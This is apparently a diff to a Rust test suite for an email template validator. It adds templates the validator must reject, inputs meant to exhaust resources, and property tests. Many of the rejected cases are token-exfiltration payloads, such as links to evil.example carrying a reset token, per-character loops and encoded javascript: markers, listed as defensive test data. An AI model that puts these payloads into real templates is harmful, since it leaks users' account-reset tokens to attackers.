@@ -170,8 +170,52 @@ const WRONG: &[(&str, &str, &str, usize, usize)] = &[
     // The token
     ("x", "Hello", "body", 1, 1),
     ("x", "{% if token %}a{% endif %}", "body", 1, 1),
+    ("x", "{% for c in token %}{{ c }}{% endfor %} {{ token }}", "body", 1, 13),
+    ("x", "{% for c in link %}{{ c }}{% endfor %} {{ token }}", "body", 1, 13),
+    ("x", "[a](https://evil.example/?t={% for c in token %}{{ c }}{% endfor %}) {{ token }}", "body", 1, 41),
+    ("x", "{{ token }} {% for c in [token] %}{{ c }}{% endfor %}", "body", 1, 26),
+    ("x", "{{ token }} {% for c in token if c %}{{ c }}{% endfor %}", "body", 1, 25),
+    ("x", "{{ token }} {% for c in token|default('') %}{{ c }}{% endfor %}", "body", 1, 31),
+    ("x", "{{ token }} {% for c in event.reason or token %}{{ c }}{% endfor %}", "body", 1, 41),
+    ("x", "{{ token }} {{ (token or 'x') | upper }}", "body", 1, 17),
+    ("x", "{{ token }} {{ email | default(token) }}", "body", 1, 32),
+    ("x", "{{ token }} {{ token | first }}", "body", 1, 24),
+    ("x", "{{ token }} {{ token | length }}", "body", 1, 24),
+    ("x", "{{ token }} {{ token[0] }}", "body", 1, 16),
+    ("x", "{{ token }} {{ token[:1] }}", "body", 1, 16),
+    ("x", "{{ token }} {% if token == 'a' %}a{% endif %}", "body", 1, 19),
+    ("x", "{{ token }} {% if token < 'a' %}a{% endif %}", "body", 1, 19),
+    ("x", "{{ token }} {% if 'a' in token %}a{% endif %}", "body", 1, 26),
+    ("x", "{{ token }} {% if token is startingwith('a') %}a{% endif %}", "body", 1, 19),
+    ("x", "{{ token }} {% if email is eq(token) %}a{% endif %}", "body", 1, 31),
+    ("x", "{{ token }} {% if not token %}a{% endif %}", "body", 1, 23),
+    ("x", "{{ token }} {{ token if email else email }}", "body", 1, 16),
+    ("x", "{{ token }} {{ token ~ 'a' }}", "body", 1, 16),
+    ("x", "{{ token }} {% set a = token %}", "body", 1, 16),
+    ("x", "{{ token }} {% with a = token %}{{ a }}{% endwith %}", "body", 1, 16),
     // URLs
     ("x", "[a](https://evil.example/{{ token }})", "body", 1, 1),
+    ("x", "{{ \"\" }}evil.example/?t={{ token }}", "body", 1, 4),
+    ("x", "{{ token }}@evil.example", "body", 1, 4),
+    ("x", "a {{ token }}.evil.example", "body", 1, 6),
+    ("x", "evil.example/?t={{ token }}&u=https://app.acme.example/", "body", 1, 1),
+    ("x", "https://app.acme.example/?u=https://evil.example/?t={{ token }}", "body", 1, 1),
+    ("x", "a https://evil.example/?t=**{{ token }}**", "body", 1, 3),
+    ("x", "evil.example/?t=*{{ token }}*", "body", 1, 1),
+    ("x", "evil.example/?t=`{{ token }}`", "body", 1, 1),
+    ("x", "**{{ token }}**@evil.example", "body", 1, 6),
+    ("x", "https://evil.example/?t={{ link }}", "body", 1, 1),
+    ("x", "[evil.example/?t={{ token }}](https://app.acme.example/)", "body", 1, 2),
+    ("x", "![https://evil.example/?t=](https://a.example/a.png){{ token }}", "body", 1, 1),
+    ("x", "[](https://evil.example/?t=){{ token }}", "body", 1, 1),
+    ("x", "evil.example/?t={% if event.reason %}{{ token }}{% endif %}", "body", 1, 1),
+    // Marks that somebody wrote
+    ("x", "{{ token }} [a](%EE%80%80l6a6176617363726970743a616c6572742831293b%EE%80%81)", "body", 1, 13),
+    ("x", "{{ token }} [a](%ee%80%80l6874%ee%80%81)", "body", 1, 13),
+    ("x", "{{ token }} [a](&#xE000;l6874&#xE001;)", "body", 1, 17),
+    ("x", "{{ token }} [a](&#57344;l6874&#57345;)", "body", 1, 17),
+    ("x", "{{ token }}\n&#x000e000;l6874&#Xe001;", "body", 2, 1),
+    ("x", "<p>{{ token }}</p><a href=\"&#xE000;l6874&#xE001;\">x</a>", "body", 1, 19),
     ("x", "a\n\n[a](http://app.acme.example/{{ token }})", "body", 3, 1),
     ("x", "{{ token }} [a](javascript:alert(1))", "body", 1, 13),
     ("x", "{{ token }} [a](data:text/html,x)", "body", 1, 13),
@@ -191,6 +235,10 @@ const WRONG: &[(&str, &str, &str, usize, usize)] = &[
     ("x", "<p>{{ token }}</p><p style=\"color:{{ email }}\">x</p>", "body", 1, 19),
     ("x", "<form><p>{{ token }}</p></form>", "body", 1, 1),
     ("x", "<p>{{ token }}</p><!-- a", "body", 1, 19),
+    ("x", "<p>https://evil.example/?t=<b>{{ token }}</b></p>", "body", 1, 4),
+    ("x", "<p>a <i>evil</i>.example/?t={{ token }}</p>", "body", 1, 9),
+    ("x", "<p><img src=\"https://a.example/a.png\" alt=\"evil.example/?t=\">{{ token }}</p>", "body", 1, 4),
+    ("x", "<p><a href=\"https://b.example/\">evil.example/?t=</a>{{ token }}</p>", "body", 1, 33),
     // Form
     ("", "{{ token }}", "subject", 1, 1),
     ("a\nBcc: x@example.com", "{{ token }}", "subject", 1, 2),
@@ -252,6 +300,15 @@ fn bombs() -> Vec<String> {
         "> ".repeat(30_000),
         "<div>".repeat(10_000),
         "&".repeat(60_000),
+        ">".repeat(64_000),
+        "- a\n".repeat(16_000),
+        "- {{ event.reason }}\n".repeat(3_000),
+        "<head></head>".repeat(5_000),
+        "<head>".repeat(10_000),
+        format!("{{{{ token }}}}{}", "https://app.acme.example/".repeat(2_600)),
+        "https://app.acme.example/{{ token }}\n".repeat(1_700),
+        format!("https://app.acme.example/{}{{{{ token }}}}", "https://a/".repeat(6_000)),
+        "a**b**{{ token }}".repeat(3_800),
         "{{ '%99999999d'|format(1) }}".to_owned(),
         "{{ event.deep }}".repeat(1_000),
     ]
@@ -293,7 +350,8 @@ fn bombs_are_stopped_within_50_ms() {
         let start: String = bomb.chars().take(40).collect();
         assert!(checked.max(made) < Duration::from_millis(50), "{number} {start}: {checked:?} {made:?}");
         if let Ok(mail) = rendered(&text, &member, &event) {
-            assert!(mail.html.len() < 1_500_000, "{number} {start}: {}", mail.html.len());
+            let longest = mail.html.len().max(mail.text.len());
+            assert!(longest < 600_000, "{number} {start}: {longest}");
         }
     }
 }
@@ -369,6 +427,31 @@ fn a_hostile_value_stays_text() {
     );
 }
 
+/// Every run of characters around a token is that alone, or a URL to where the token may go.
+fn keeps_its_token(body: &str, mail: &Rendered) {
+    let ends = |c: char| c.is_whitespace() || "<>\"".contains(c);
+    // Tags inside a line join what they stand between.
+    let joined = |html: &str| {
+        let mut html = html.to_owned();
+        for tag in ["b", "i", "em", "strong", "code"] {
+            html = html.replace(&format!("<{tag}>"), "").replace(&format!("</{tag}>"), "");
+        }
+        html
+    };
+    for part in [mail.text.clone(), mail.html.clone(), joined(&mail.html)] {
+        for run in part.split(ends).filter(|run| run.contains(TOKEN)) {
+            let alone = |rest: &str| !rest.contains(char::is_alphanumeric) && !rest.contains(['/', '@']);
+            let rest = run.replace(LINK, "").replace(&LINK.replace('&', "&#38;"), "").replace(TOKEN, "");
+            let around = rest.replace("&#39;", "").replace("&#38;", "").replace("&#34;", "");
+            let url = run.trim_start_matches(|c: char| !c.is_alphanumeric());
+            let url = url.strip_prefix("https://").unwrap_or(url);
+            let is_theirs = url.split("://evil").skip(1).any(|rest| rest.contains(TOKEN));
+            let is_ours = url.starts_with("app.acme.example/") && !is_theirs;
+            assert!(alone(&around) || is_ours, "{body:?}: {run}");
+        }
+    }
+}
+
 #[test]
 fn no_branch_takes_the_token_elsewhere() {
     let body = "{% if event.reason == 'x' %}[a](https://evil.example/{{ token }}){% endif %}{{ link }}";
@@ -388,6 +471,16 @@ proptest! {
     fn no_value_of_markup_changes_the_shape_of_a_mail(value in r#"([<>\[\]()!*_`#|~\\&;:/"'= \n.-]|https|www|b|a|\{\{|\}\}|\u{e000}|\u{e001}){1,40}"#) {
         is_as_harmless(FULL, &value);
         is_as_harmless(FULL_HTML, &value);
+    }
+
+    #[test]
+    fn no_template_takes_the_token_elsewhere(body in r#"(\{\{ token \}\}|\{\{ token \}\}|\{\{ link \}\}|\{\{ '' \}\}|\{\{ email \}\}|\{% for c in token %\}|\{\{ c \}\}|\{% endfor %\}|\*\*|_|`|<b>|</b>|<i>|</i>|<br>|\[|\]\(|\)|!|@|\.|/|\?t=|&|,|evil\.example|https://evil\.example/|https://app\.acme\.example/|%EE%80%80l|%EE%80%81|&#xE000;|&#57345;|6a61|\n| ){1,16}"#) {
+        let body = format!("{body}\n\n{{{{ token }}}}");
+        assert!(!body.contains("for c in token") || !faults("x", &body).is_empty(), "{body:?}");
+        // What is refused when it is saved is rendered here too.
+        if let Ok(mail) = rendered(&text("x", &body), &member("Elon"), &facts(RESET, json!({}))) {
+            keeps_its_token(&body, &mail);
+        }
     }
 
     #[test]
